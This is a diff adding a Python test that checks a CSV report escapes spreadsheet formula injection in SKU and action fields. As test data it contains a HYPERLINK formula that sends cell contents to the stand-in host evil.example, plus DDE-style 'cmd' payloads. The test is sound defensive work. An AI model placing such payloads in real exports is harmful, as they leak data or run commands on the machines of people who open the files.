@@ -261,3 +261,38 @@ def test_report_csv_and_html() -> None:
     assert re.findall(r"https?://[^\"' ]+", page) == ["http://www.w3.org/2000/svg"]
     text = "".join(parser.text)
     assert "over threshold" in text and "no WMS snapshot" in text and HOSTILE.remedy in text
+
+
+def test_report_csv_cells_from_data_are_not_spreadsheet_formulas() -> None:
+    # a SKU from the WMS's item file opens the catalog job's action; a spreadsheet would run it
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    hostile = Discrepancy(
+        job="catalog",
+        partner="netsuite",
+        subject=f"SKU {formula}",
+        check="sku_missing_in_erp",
+        sides={"netsuite": "not listed", "wms": "listed"},
+        owner=Owner.WMS,
+        action=f"{formula} is in the WMS's item master but not an active item in netsuite",
+        remedy=R.check("catalog"),
+        delta=-2.5,
+    )
+    others = [f"{c}cmd|' /C calc'!A0" for c in "+-@\t\r"]
+    rows = [hostile] + [
+        Discrepancy(
+            job="catalog",
+            partner="netsuite",
+            subject="SKU x",
+            check="differs",
+            sides={},
+            owner=Owner.ERP,
+            action=text,
+            remedy=R.check("catalog"),
+        )
+        for text in others
+    ]
+    table = list(csv.DictReader(io.StringIO(report_csv([_result("catalog", rows)]).decode("utf-8"))))
+    for row in table:
+        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for k, v in row.items() if k != "delta"), row
+    assert table[0]["action"] == "'" + hostile.action  # shown as text, whole
+    assert table[0]["delta"] == "-2.5"  # a number stays a number
